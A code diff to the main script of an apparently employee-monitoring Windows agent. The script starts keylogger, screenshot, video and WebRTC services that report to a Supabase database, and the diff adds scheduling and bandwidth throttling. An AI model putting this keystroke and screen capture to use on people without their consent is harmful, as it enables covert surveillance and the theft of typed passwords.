@@ -7,12 +7,15 @@ import winreg
 import tkinter as tk
 import threading
 from dotenv import load_dotenv
-from supabase import create_client, Client
+from supabase import create_client, Client, ClientOptions
 
 from services.logger import KeyloggerService
 from services.monitor import ScreenshotService
 from services.stream import VideoRecorderService
 from services.webrtc import WebRTCService
+from services.bandwidth import BandwidthGovernor
+from services.scheduler import Scheduler
+from services.transport import create_http_client
 
 # Paths
 if getattr(sys, 'frozen', False):
@@ -53,13 +56,16 @@ if not SUPABASE_URL or not SUPABASE_KEY:
     log("Error: Supabase credentials not found.")
     sys.exit(1)
 
-supabase: Client = create_client(SUPABASE_URL, SUPABASE_KEY)
+supabase: Client = create_client(SUPABASE_URL, SUPABASE_KEY, options=ClientOptions(httpx_client=create_http_client()))
 hostname = socket.gethostname()
 try:
     ip_address = socket.gethostbyname(hostname)
 except:
     ip_address = "Unknown"
 
+scheduler = Scheduler(hostname)
+governor = BandwidthGovernor()
+
 def show_info_window():
     try:
         root = tk.Tk()
@@ -87,13 +93,14 @@ async def run_service(service, name):
             log(f"[{name}] Crashed: {e}\n{traceback.format_exc()}")
             await asyncio.sleep(5)
 
-async def heartbeat(supabase, employee_id):
+async def heartbeat(supabase, employee_id, scheduler):
     while True:
+        await scheduler.wait("heartbeat", 30)
         try:
             supabase.table("employees").update({"last_seen": "now()"}).eq("id", employee_id).execute()
         except Exception as e:
             log(f"Heartbeat error: {e}")
-        await asyncio.sleep(30)
+            scheduler.note_error(e)
 
 async def main():
     log("=== Agent Starting ===")
@@ -109,7 +116,7 @@ async def main():
             data = {
                 "hostname": hostname,
                 "ip_address": ip_address,
-                "settings": {"screenshot_interval": 300, "video_duration": 10, "screenshots_enabled": False}
+                "settings": {"screenshot_interval": 300, "video_duration": 10, "screenshots_enabled": False, "timelapse_enabled": False}
             }
             res = supabase.table("employees").insert(data).execute()
             employee_id = res.data[0]["id"]
@@ -119,15 +126,16 @@ async def main():
             supabase.table("employees").update({"ip_address": ip_address, "last_seen": "now()"}).eq("id", employee_id).execute()
     except Exception as e:
         log(f"Supabase Init Error: {e}")
-        await asyncio.sleep(10)
+        scheduler.note_error(e)
+        await scheduler.wait("init", 10)
         return await main()
 
     threading.Thread(target=show_info_window, daemon=True).start()
 
-    logger_service = KeyloggerService(supabase, employee_id)
-    monitor_service = ScreenshotService(supabase, employee_id)
-    stream_service = VideoRecorderService(supabase, employee_id)
-    webrtc_service = WebRTCService(supabase, employee_id)
+    logger_service = KeyloggerService(supabase, employee_id, scheduler, governor)
+    monitor_service = ScreenshotService(supabase, employee_id, scheduler, governor)
+    stream_service = VideoRecorderService(supabase, employee_id, scheduler, governor)
+    webrtc_service = WebRTCService(supabase, employee_id, governor)
 
     log("Starting services...")
 
@@ -136,7 +144,7 @@ async def main():
         run_service(monitor_service, "Screenshot"),
         run_service(stream_service, "Video"),
         run_service(webrtc_service, "WebRTC"),
-        heartbeat(supabase, employee_id)
+        heartbeat(supabase, employee_id, scheduler)
     )
 
 if __name__ == "__main__":